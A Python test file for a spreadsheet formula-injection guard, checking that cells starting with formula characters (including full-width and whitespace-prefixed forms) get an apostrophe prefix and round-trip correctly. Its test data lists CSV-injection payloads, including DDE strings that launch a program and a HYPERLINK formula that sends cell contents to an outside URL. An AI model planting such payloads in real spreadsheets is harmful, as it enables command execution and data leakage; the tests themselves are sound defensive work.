"""A spreadsheet shows a guarded cell as text; unguarded, it is what it was."""

from __future__ import annotations

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safespace.transfer.cells import guard, unguard

SIGNS = tuple("=+-@\t\r\n＝＋－＠")  # noqa: RUF001
TEXT = st.text() | st.text(alphabet="'=+-@\t\r\n ＝＠\ufeffa", max_size=8)  # noqa: RUF001

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?d="&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "- a list",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guard(text) == f"'{text}"
    assert unguard(f"'{text}") == text


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_guarded_already_gets_one_more(text: str) -> None:
    assert guard(f"'{text}") == f"''{text}"
    assert unguard(f"''{text}") == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "It rained", "'tis", "'", "a=b", "1-1", "📅 =", "''quoted''", " a"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert guard(text) == unguard(text) == text


@given(TEXT)
def test_unguarding_gives_exactly_what_was_guarded(text: str) -> None:
    assert unguard(guard(text)) == text


@given(TEXT)
def test_no_guarded_cell_begins_like_a_formula(text: str) -> None:
    assert not guard(text).startswith(SIGNS)
    assert not guard(text).lstrip(f"{string.whitespace}\ufeff").startswith(SIGNS)
